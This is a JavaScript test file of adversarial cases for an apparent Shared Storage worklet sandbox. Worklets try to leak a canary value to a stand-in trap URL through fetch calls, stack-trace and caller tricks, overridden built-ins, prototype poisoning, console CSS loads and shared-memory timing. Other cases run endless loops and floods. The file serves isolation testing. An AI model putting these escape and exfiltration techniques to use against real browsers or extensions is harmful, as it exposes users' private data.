// Worklets of the victim's own origin that look for what is not theirs inside their realm, and tell their page what they know.

const PAGE = `kit.listenEverywhere(); kit.got(await kit.run('attack', { data: { blob: new Blob(['x']), image: new ImageData(1, 1), error: new DOMException('x') } }));`;

/**
 * @param {string} name
 * @param {string} tries
 * @param {string} body of the operation: `canary` is what it must not let out, U a URL of the trap with it
 * @param {Partial<import('../case.mjs').Attack>} [more]
 * @returns {import('../case.mjs').Attack}
 */
const operation = (name, tries, body, more = {}) => ({
  name: `realm-${name}`,
  tries,
  page: PAGE,
  ...more,
  module: `${more.module ?? ''}
    register('attack', class {
      async run(data) {
        const canary = await sharedStorage.get('canary');
        const U = STAGE.trap + canary;
        let count = 0;
        const attempt = (f) => { count++; try { const result = f(); result?.then?.(() => {}, () => {}); } catch {} };
        ${body}
        for (let round = 0; round < 30; round++) await sharedStorage.length();
        tried(count + 1);
        return 0;
      }
    });`,
});

/** Calls whatever can be reached from everywhere, with the canary. */
const WALK = `
  const seen = new Set();
  const stack = [globalThis, data, (async () => {})(), (function* () {})(), (async function* () {})(), new Error('x'), new Proxy({}, {}), import('data:text/javascript,export const x = 1')];
  const functions = [];
  while (stack.length > 0 && seen.size < 20000) {
    const value = stack.pop();
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue;
    seen.add(value);
    if (typeof value === 'function') functions.push(value);
    try { stack.push(Reflect.getPrototypeOf(value)); for (const key of Reflect.ownKeys(value)) { const { get, set, value: member } = Reflect.getOwnPropertyDescriptor(value, key); stack.push(get, set, member); } } catch {}
  }
  const harmless = /^(log|debug|info|warn|error|dir|dirxml|table|trace|group|assert|count|time|clear|close|eval|set|append|delete|batchUpdate)/;
  const ways = /fetch|XMLHttp|Socket|Source|Transport|Worker|import|post|send|Channel|open|Request|create|register|load|navigate|assign|report/i;`;

/** @type {import('../case.mjs').Attack[]} */
export default [
  operation(
    'walk',
    'A worklet walks over all that it can reach, and calls every function whose name says that it may lead out.',
    `${WALK}
    for (const f of functions) if (ways.test(f.name) && !harmless.test(f.name)) { attempt(() => f(U)); attempt(() => new f(U)); attempt(() => f.call(globalThis, U, U)); }`,
  ),
  operation(
    'error-stacks',
    'A worklet looks for functions and objects of the extension in stacks, with prepareStackTrace().',
    `
    const loot = [];
    Error.stackTraceLimit = Infinity;
    Error.prepareStackTrace = (error, sites) => { for (const site of sites) loot.push(site.getThis(), site.getFunction(), site.getEvalOrigin?.()); return String(error); };
    for (const f of [() => null.x, () => sharedStorage.set(Symbol()), () => sharedStorage.set({ toString() { throw new Error(); } }), () => register('x', 5), () => console.log({ get x() { throw new Error(); } }), () => crypto.subtle.digest('x')])
      try { await f(); } catch (error) { String(error.stack); }
    for (const one of loot) if (one) attempt(() => (typeof one === 'function' ? one : one.postMessage)?.(U));
    Error.prepareStackTrace = undefined;`,
  ),
  operation(
    'callers',
    "A worklet looks for the extension's functions by caller and arguments of what it calls back.",
    `
    const stolen = [];
    function key() { attempt(() => stolen.push(key.caller, key.arguments, key.caller?.arguments)); return 'k'; }
    await sharedStorage.get({ toString: key }); await sharedStorage.length();
    console.assert(true, { toString: key });
    for (const one of stolen) attempt(() => one?.postMessage?.(U));`,
  ),
  operation(
    'patched-realm',
    'A worklet replaces every primordial of its realm, and sends whatever its replacements are called with.',
    `
    const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
    for (const object of [Promise.prototype, Array.prototype, Map.prototype, String.prototype, Function.prototype, Object, Reflect, JSON])
      for (const name of ownKeys(object)) {
        const descriptor = getOwnPropertyDescriptor(object, name);
        if (typeof descriptor.value !== 'function' || name === 'constructor' || !descriptor.configurable) continue;
        const f = descriptor.value;
        attempt(() => defineProperty(object, name, { ...descriptor, value(...args) { for (let i = 0; i < args.length; i++) if (args[i] && typeof args[i].postMessage === 'function') args[i].postMessage(U); return apply(f, this, args); } }));
      }
    await sharedStorage.get('canary'); await sharedStorage.entries().next();`,
  ),
  operation(
    'message-poison',
    'A worklet poisons what messages to its host have as members, so that the host decodes what was not meant.',
    `
    for (const name of ['type', 'id', 'call', 'params', 'dataOrigin', 'origin', 'key', 'lock', 'value', 'runId', 'error', 'url', 'toJSON', 'then', '0', 'length'])
      attempt(() => Object.defineProperty(Object.prototype, name, { configurable: true, get() { return STAGE.attacker; }, set() {} }));
    await sharedStorage.get('canary'); attempt(() => sharedStorage.get('other')); attempt(() => console.log('x', {}, [1]));
    for (const name of ['type', 'id', 'call', 'params', 'dataOrigin', 'origin', 'key', 'lock', 'value', 'runId', 'error', 'url', 'toJSON', 'then', '0', 'length']) delete Object.prototype[name];`,
  ),
  operation(
    'returned-values',
    'An operation returns proxies, thenables and objects whose getters send the canary when somebody looks at them.',
    `
    const look = new Proxy({}, { get(_, name) { attempt(() => fetch(U + '/' + String(name))); return name === 'then' ? undefined : look; }, has: () => true, ownKeys: () => ['canary'] });
    attempt(() => look.x);
    register('returned', class { async run() { return look; } });`,
    {
      page: `kit.listenEverywhere(); kit.got(await kit.run()); kit.got(await sharedStorage.run('returned', { keepAlive: true }));
      kit.got(await sharedStorage.selectURL('returned', [{ url: '/blank.html' }, { url: '/blank.html?1' }], { keepAlive: true }));`,
    },
  ),
  operation(
    'thrown-values',
    'Operations throw the canary in every way, which their page must not see.',
    `
    count = 4;`,
    {
      module: `
      for (const [name, f] of Object.entries({ a: (c) => new Error(c), b: (c) => c, c: (c) => ({ message: c, name: c, stack: c, toString: () => c }), d: (c) => { class E extends Error { get message() { return c; } get name() { return c; } } return new E(); } }))
        register(name, class { async run() { throw f(await sharedStorage.get('canary')); } });`,
      page: `kit.listenEverywhere(); kit.got(await kit.run());
        for (const name of ['a', 'b', 'c', 'd']) { await kit.each({ run: () => sharedStorage.run(name, { keepAlive: true }), select: () => sharedStorage.selectURL(name, [{ url: '/blank.html' }], { keepAlive: true }) }); }`,
    },
  ),
  operation('module-throws', 'A module throws what its page must not see: it has nothing stored to tell.', `count = 1;`, {
    module: `try { globalThis.late = sharedStorage.get('canary').then((value) => { throw new Error('late ' + value); }, () => {}); } catch (error) { Promise.reject(error); }`,
    page: `kit.listenEverywhere(); await kit.each({ add: () => sharedStorage.worklet.addModule('/module.js'), run: () => sharedStorage.run('attack', { keepAlive: true }) });`,
  }),
  operation(
    'console-styles',
    'A worklet logs styles, formats and markup that would load something where they are shown.',
    `
    attempt(() => console.log('%c x', 'background: url(' + STAGE.trap + 'style)'));
    attempt(() => console.log('<img src="' + STAGE.trap + 'markup">'));
    attempt(() => console.log('%o %s %c', { url: STAGE.trap }, STAGE.trap, 'content: url(' + STAGE.trap + ')'));
    attempt(() => console.table([{ url: STAGE.trap + 'table' }])); attempt(() => console.trace(STAGE.trap + 'trace')); attempt(() => console.group('%c', 'background: url(' + STAGE.trap + 'group)'));`,
  ),
  operation(
    'console-to-page',
    'A worklet logs the canary in every way; page code that has replaced the console and listens everywhere must not hear of it.',
    `
    for (const name of Object.keys(console)) attempt(() => console[name](canary, { canary }, new Error(canary)));`,
    {
      head: `<script>kit.listenEverywhere(); const { prototype } = console.constructor; for (const name of ['log', 'error', 'table']) Object.prototype[name] ??= undefined;</script>`,
    },
  ),
  operation(
    'shared-memory',
    'A worklet shares memory with its page, and waits on it as on a clock.',
    `
    attempt(() => { const memory = new WebAssembly.Memory({ initial: 1, maximum: 2, shared: true }); new Uint8Array(memory.buffer).set(new TextEncoder().encode(canary)); postMessage(memory); console.log(memory.buffer.byteLength); });
    attempt(() => Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0, 5));
    attempt(() => Atomics.waitAsync?.(new Int32Array(new ArrayBuffer(4)), 0, 0, 5));`,
    {
      page: `
      kit.listenEverywhere();
      const buffer = new WebAssembly.Memory({ initial: 1, maximum: 2, shared: true }).buffer;
      await kit.each({ data: () => kit.run('attack', { data: { buffer } }), plain: () => kit.run('attack', { data: {} }), after: () => buffer });`,
    },
  ),
  operation(
    'transferred-data',
    'A worklet changes the data that its operation was given, and the page looks for the canary in what it gave.',
    `
    attempt(() => { data.list.push(canary); data.map.set('canary', canary); new Uint8Array(data.bytes).set(new TextEncoder().encode(canary)); data.self = canary; });`,
    {
      page: `
      kit.listenEverywhere();
      const data = { list: [], map: new Map(), bytes: new ArrayBuffer(64), self: null };
      data.self = data;
      kit.got(await kit.run('attack', { data }));
      kit.got(data.list, [...data.map], data.bytes, data);`,
    },
  ),
  operation(
    'ports-in-data',
    'The page gives an operation ports, streams and shared buffers by which it could answer.',
    `attempt(() => data?.port?.postMessage(canary));`,
    {
      page: `
      kit.listenEverywhere();
      const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => kit.got('port', data);
      const { readable, writable } = new TransformStream();
      await kit.each({ port: () => kit.run('attack', { data: { port: port2 } }), stream: () => kit.run('attack', { data: { readable } }), writable: () => kit.run('attack', { data: writable }),
        shared: () => kit.run('attack', { data: new SharedArrayBuffer(8) }), window: () => kit.run('attack', { data: window }), plain: () => kit.run('attack', { data: {} }) });`,
    },
  ),
  operation(
    'other-worklet',
    'A worklet leaves the canary in its globals for another worklet of the same page, which has no right to wait for it.',
    `
    globalThis.canary = canary; attempt(() => { Object.prototype.canary = canary; }); attempt(() => { Array.prototype.canary = canary; });`,
    {
      serve: { '/second.js': `register('look', class { run() { console.log('found:', globalThis.canary, ({}).canary, [].canary); } });` },
      page: `kit.got(await kit.run()); const second = await sharedStorage.createWorklet('/second.js'); kit.got(await second.run('look', { keepAlive: true }));`,
    },
  ),
  operation('endless', 'A worklet loops for ever in one operation: its page and everybody else go on.', `count = 1;`, {
    serve: { '/endless.js': `register('endless', class { run() { for (;;); } });` },
    page: `const endless = await sharedStorage.createWorklet('/endless.js'); await kit.each({ run: () => endless.run('endless', { keepAlive: true }), other: () => kit.run(), after: () => sharedStorage.set('own', 'v'), again: () => sharedStorage.delete('own') });`,
  }),
  operation(
    'flood',
    'A worklet floods its host with reads, writes, lines and locks.',
    `
    for (let index = 0; index < 5000; index++) sharedStorage.get('k' + (index % 50));
    for (let index = 0; index < 500; index++) attempt(() => { sharedStorage.set('flood', String(index)); console.debug(index); navigator.locks.request('l' + index, () => {}); });
    await sharedStorage.delete('flood');`,
  ),
  operation(
    'odd-keys',
    'A worklet reads and writes by keys that name members of objects, other origins and records of the store.',
    `
    const odd = ['__proto__', 'constructor', 'toString', STAGE.attacker, STAGE.attacker + '\\0canary', '\\0', '\\uffff', '\\ud800', '[object Object]', 'entries', '../canary'];
    for (const key of odd) attempt(() => sharedStorage.get(key));
    for (const key of odd) { await sharedStorage.set(key, 'v'); attempt(() => sharedStorage.get(key)); await sharedStorage.delete(key); }`,
  ),
  operation(
    'reentrancy',
    'Getters, toString() and iterators in a worklet call the API again in the middle of its calls.',
    `
    let depth = 0;
    const again = () => { if (depth++ < 50) { sharedStorage.set({ toString: again }, { toString: again }).catch(() => {}); console.log({ get x() { return again(); } }); } return 'own'; };
    attempt(again);
    attempt(() => sharedStorage.batchUpdate({ *[Symbol.iterator]() { again(); yield new SharedStorageSetMethod('own', 'v'); again(); } }));
    attempt(() => sharedStorage.get(new Proxy({}, { get: (_, name) => (name === Symbol.toPrimitive ? again : undefined) })));
    await sharedStorage.delete('own');`,
  ),
];
